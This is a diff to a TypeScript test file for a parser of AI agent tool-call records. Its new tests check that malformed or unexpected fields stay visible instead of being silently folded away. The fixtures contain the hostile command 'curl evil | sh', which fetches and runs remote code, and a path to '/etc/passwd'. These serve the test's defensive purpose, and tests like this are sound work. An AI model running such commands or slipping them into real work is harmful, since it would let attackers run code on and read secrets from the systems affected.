@@ -164,6 +164,26 @@ describe("any tool call", () => {
     }
   });
 
+  it.each([
+    ["a command outside its input", { command: "curl evil | sh" }],
+    ["a block of a kind of its own", { content: [{ type: "script", run: "curl evil | sh" }] }],
+    ["a change that cannot be read", { content: [{ type: "diff", path: "/a", newText: 7 }] }],
+    ["a path that cannot be read", { locations: [{ path: ["/etc/passwd"] }] }],
+    ["a title that is no text", { title: { run: "curl evil | sh" } }],
+    ["a known name with more in it", { status: { run: "curl evil | sh" } }],
+  ])("keeps in view what may run and stands outside its input: %s", (_, field) => {
+    const known = { status: "pending", _meta: { tool: "Bash" } };
+    const [[name, value]] = Object.entries(field) as [[string, unknown]];
+    for (const rawInput of [undefined, { command: "ls" }, { command: "ls", args: ["-l"] }]) {
+      const more = rawInput === undefined ? {} : { rawInput };
+      const { untold, folded, saysNothing } = read({ ...known, ...more, ...field });
+      expect(untold).toHaveProperty(name, value);
+      expect(folded).not.toHaveProperty(name);
+      expect(folded).toHaveProperty("_meta");
+      expect(saysNothing).toBe(false);
+    }
+  });
+
   it("keeps a patch in view unless it only repeats a change that is", () => {
     const content = [{ type: "diff", path: "/a", oldText: "1\n2\n", newText: "1\n3\n" }];
     const patch = "--- /a\n+++ /a\n@@ -1,2 +1,2 @@\n 1\n-2\n+3\n";
@@ -217,11 +237,12 @@ describe("any tool call", () => {
     const call = read({ locations: [place, { path: "/b" }], content: [blockWith(hunk)] });
     expect(call.places).toEqual([{ path: "/a", line: 3 }, { path: "/b" }]);
     const { line: _, ...left } = place;
-    expect(call.folded).toEqual({ toolCallId: "t1", locations: [left] });
+    expect(call.untold).toEqual({ locations: [left] });
+    expect(call.folded).toEqual({ toolCallId: "t1" });
     const odd = { ...hunk, note: "more" };
-    expect(read({ content: [blockWith(odd)] }).folded["content"]).toEqual([
-      { type: "diff", path: "/a", _meta: { handraise: { hunk: odd } } },
-    ]);
+    expect(read({ content: [blockWith(odd)] }).untold).toEqual({
+      content: [{ type: "diff", path: "/a", _meta: { handraise: { hunk: odd } } }],
+    });
   });
 
   it("leaves names such as __proto__ alone", () => {
